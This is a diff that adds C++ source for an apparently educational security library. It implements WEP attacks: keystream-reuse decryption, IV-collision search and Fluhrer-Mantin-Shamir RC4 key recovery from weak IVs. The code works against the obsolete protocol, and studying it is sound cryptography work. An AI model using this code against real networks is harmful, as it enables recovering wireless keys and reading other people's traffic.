@@ -1,0 +1,138 @@
+#include "mapsec/attack/wep_attack.hpp"
+
+#include <algorithm>
+#include <map>
+
+namespace mapsec::attack {
+
+using protocol::WepFrame;
+
+crypto::Bytes keystream_reuse_decrypt(const WepFrame& known_frame,
+                                      crypto::ConstBytes known_plaintext,
+                                      const WepFrame& target_frame) {
+  // keystream = known_ciphertext ^ known_plaintext;
+  // target_plaintext = target_ciphertext ^ keystream.
+  const std::size_t n = std::min({known_frame.body.size(),
+                                  known_plaintext.size(),
+                                  target_frame.body.size()});
+  crypto::Bytes out(n);
+  for (std::size_t i = 0; i < n; ++i)
+    out[i] = static_cast<std::uint8_t>(known_frame.body[i] ^
+                                       known_plaintext[i] ^
+                                       target_frame.body[i]);
+  return out;
+}
+
+std::optional<std::pair<std::size_t, std::size_t>> find_iv_collision(
+    const std::vector<WepFrame>& frames) {
+  std::map<std::array<std::uint8_t, 3>, std::size_t> seen;
+  for (std::size_t i = 0; i < frames.size(); ++i) {
+    const auto [it, inserted] = seen.emplace(frames[i].iv, i);
+    if (!inserted) return std::make_pair(it->second, i);
+  }
+  return std::nullopt;
+}
+
+FmsAttack::FmsAttack(std::size_t key_len) : key_len_(key_len) {
+  if (key_len != 5 && key_len != 13)
+    throw std::invalid_argument("FmsAttack: WEP key is 5 or 13 bytes");
+}
+
+void FmsAttack::observe(const WepFrame& frame,
+                        std::uint8_t first_plaintext_byte) {
+  ++frames_observed_;
+  if (frame.body.empty()) return;
+  observations_.push_back(
+      {frame.iv,
+       static_cast<std::uint8_t>(frame.body[0] ^ first_plaintext_byte)});
+}
+
+namespace {
+
+/// Run the first `steps` iterations of the RC4 KSA with the 3-byte IV plus
+/// the already-recovered secret prefix. Returns false if the needed key
+/// bytes are not yet known.
+struct PartialKsa {
+  std::array<std::uint8_t, 256> s;
+  std::uint8_t j = 0;
+};
+
+bool partial_ksa(const std::array<std::uint8_t, 3>& iv,
+                 const std::vector<std::uint8_t>& secret_prefix,
+                 std::size_t steps, PartialKsa& out) {
+  for (int i = 0; i < 256; ++i)
+    out.s[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i);
+  out.j = 0;
+  for (std::size_t i = 0; i < steps; ++i) {
+    std::uint8_t key_byte;
+    if (i < 3) {
+      key_byte = iv[i];
+    } else if (i - 3 < secret_prefix.size()) {
+      key_byte = secret_prefix[i - 3];
+    } else {
+      return false;
+    }
+    out.j = static_cast<std::uint8_t>(out.j + out.s[i] + key_byte);
+    std::swap(out.s[i], out.s[out.j]);
+  }
+  return true;
+}
+
+}  // namespace
+
+std::size_t FmsAttack::resolved_count(std::size_t index) const {
+  // A weak IV for byte `index` has the canonical FMS form
+  // (index+3, 255, x); count those.
+  std::size_t count = 0;
+  for (const auto& obs : observations_)
+    if (obs.iv[0] == index + 3 && obs.iv[1] == 255) ++count;
+  return count;
+}
+
+std::optional<crypto::Bytes> FmsAttack::try_recover(
+    const WepFrame& check_frame, std::uint8_t first_plaintext_byte) const {
+  std::vector<std::uint8_t> secret;
+  secret.reserve(key_len_);
+
+  for (std::size_t b = 0; b < key_len_; ++b) {
+    std::array<std::size_t, 256> votes{};
+    const std::size_t step_count = b + 3;
+    for (const auto& obs : observations_) {
+      PartialKsa ksa;
+      if (!partial_ksa(obs.iv, secret, step_count, ksa)) continue;
+      // FMS "resolved condition": the first output byte will depend on
+      // S[1] + S[S[1]] landing on position i = b+3.
+      const std::uint8_t s1 = ksa.s[1];
+      if (s1 >= step_count) continue;
+      if (static_cast<std::size_t>(s1) + ksa.s[s1] != step_count) continue;
+      // Invert the KSA step to vote for the key byte.
+      // z = S[S[1] + S[S[1]]] after full KSA with probability ~e^-3;
+      // key[b] = S^{-1}[z] - j - S[i].
+      int z_pos = -1;
+      for (int v = 0; v < 256; ++v) {
+        if (ksa.s[static_cast<std::size_t>(v)] == obs.first_keystream_byte) {
+          z_pos = v;
+          break;
+        }
+      }
+      if (z_pos < 0) continue;
+      const std::uint8_t guess = static_cast<std::uint8_t>(
+          z_pos - ksa.j - ksa.s[step_count]);
+      ++votes[guess];
+    }
+    // Take the most-voted byte; bail out if we have no information.
+    const auto best = std::max_element(votes.begin(), votes.end());
+    if (*best == 0) return std::nullopt;
+    secret.push_back(
+        static_cast<std::uint8_t>(std::distance(votes.begin(), best)));
+  }
+
+  crypto::Bytes candidate(secret.begin(), secret.end());
+  // Verify against a real frame before claiming success.
+  const auto plain = protocol::wep_decapsulate(candidate, check_frame);
+  if (!plain || plain->empty() || (*plain)[0] != first_plaintext_byte)
+    return std::nullopt;
+  return candidate;
+}
+
+}  // namespace mapsec::attack
